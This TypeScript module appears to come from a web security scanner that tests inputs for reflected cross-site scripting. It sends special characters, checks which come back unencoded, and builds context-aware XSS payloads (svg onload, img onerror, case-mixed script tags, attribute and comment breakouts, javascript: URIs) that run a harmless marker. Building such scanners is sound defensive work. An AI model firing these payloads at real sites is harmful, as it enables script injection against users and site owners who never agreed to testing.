import type { Prober } from '../check.js';
import type { Exchange, InputPlace } from '../exchange.js';
import { bodyText, headerValue, isHtml, isRedirect } from '../page/message.js';
import { contextsOf, type MarkupContext, runsMarker } from './markup.js';
import { type Probe, probeOnce } from './observe.js';
import { isAtLeast } from './prove.js';

/** The value with the characters that mark-up and scripts are made of; sent only where the value comes back. */
export function specialProbe(prober: Prober, place: InputPlace): Promise<Probe> {
  return probeOnce(prober, place, 'special', (marker) => `${marker}'"<>\`${marker}`);
}

/** Characters of `'"<>` and the backtick that stand unencoded beside the marker. */
export function survivorsIn(html: string, marker: string): ReadonlySet<string> {
  const survivors = new Set<string>();
  for (let at = html.indexOf(marker); at >= 0; at = html.indexOf(marker, at + 1)) {
    const start = at + marker.length;
    const next = html.indexOf(marker, start);
    const piece = html.slice(start, next < 0 ? start : Math.min(next, start + 80));
    for (const character of '\'"<>`') if (piece.includes(character)) survivors.add(character);
  }
  return survivors;
}

export function showsMarker({ response }: Exchange, marker: string): boolean {
  return isHtml(response) && bodyText(response).includes(marker);
}

/** Payloads whose marker a browser runs when it arrives in that context, best first. */
export function scriptPayloads(
  context: MarkupContext,
  prober: Prober,
): readonly ((marker: string) => string)[] {
  const elements: readonly ((marker: string) => string)[] = [
    (marker) => `<svg onload=${marker}>`,
    (marker) => `<img src=x onerror=${marker}>`,
    (marker) => `<script>${marker}</script>`,
    (marker) => `<details/open/ontoggle=${marker}>`,
    (marker) => `<ScRiPt>${marker}</sCrIpT>`,
    (marker) => `<svg\fOnLoad=${marker}\f>`,
  ];
  const tried = elements.slice(0, isAtLeast(prober, 'high') ? 6 : isAtLeast(prober, 'medium') ? 3 : 2);
  const behind = (closing: string) => tried.map((element) => (marker: string) => closing + element(marker));
  switch (context.at) {
    case 'comment':
      return behind('-->');
    case 'script':
      return [...scriptBreaks(context.quote), ...behind('</script>')];
    case 'attribute':
      return attributePayloads(context, behind);
    default:
      return /^(?:title|textarea|style|noscript|xmp|iframe|noembed|noframes)$/.test(context.inside)
        ? behind(`</${context.inside}>`)
        : tried;
  }
}

function scriptBreaks(quote: string): readonly ((marker: string) => string)[] {
  if (quote === '') return [(marker) => marker, (marker) => `;${marker};`];
  if (quote === '`') return [(marker) => `\${${marker}}`];
  return [(marker) => `${quote}-${marker}-${quote}`, (marker) => `\\${quote};${marker};//`];
}

function attributePayloads(
  { quote, name, isStart }: Extract<MarkupContext, { at: 'attribute' }>,
  behind: (closing: string) => readonly ((marker: string) => string)[],
): readonly ((marker: string) => string)[] {
  const address = isStart && /^(?:href|src|action|formaction|data)$/.test(name);
  const handler = /^on/.test(name);
  return [
    ...(address ? [(marker: string) => `javascript:${marker}`] : []),
    ...(handler ? ["'", '"'].map((mark) => (marker: string) => `${mark}-${marker}-${mark}`) : []),
    (marker) => `${quote} autofocus onfocus=${quote}${marker}${quote === '' ? ' x=' : ''}`,
    ...behind(`${quote}>`),
  ];
}

/** Whether the characters that the payload needs got through at all. */
export function canPass(payload: string, survivors: ReadonlySet<string>): boolean {
  return [...'<>"\'`'].every((character) => !payload.includes(character) || survivors.has(character));
}

/** The answer is a document in which a browser runs the marker; the body of a redirect is never shown, that of the page behind it is. */
export function executes(exchange: Exchange, marker: string): boolean {
  const { response } = exchange;
  const isFollowed =
    isRedirect(exchange) &&
    headerValue(response, 'location') !== undefined &&
    response.landedAt === undefined;
  return !isFollowed && isHtml(response) && runsMarker(bodyText(response), marker);
}

/** Context and payload pairs to try for a document, without doubles, those that cannot get through left out. */
export function plannedPayloads(
  prober: Prober,
  html: string,
  marker: string,
  survivors: ReadonlySet<string>,
): readonly ((marker: string) => string)[] {
  const planned = new Map<string, (marker: string) => string>();
  for (const context of contextsOf(html, marker)) {
    for (const payloadFor of scriptPayloads(context, prober)) {
      const sample = payloadFor('m');
      // The browser decodes a handler's value before it runs it: encoding does not protect there.
      const isDecoded = context.at === 'attribute' && /^on/.test(context.name);
      if (isDecoded || canPass(sample, survivors)) planned.set(sample, payloadFor);
    }
  }
  return [...planned.values()].slice(0, isAtLeast(prober, 'high') ? 16 : 8);
}
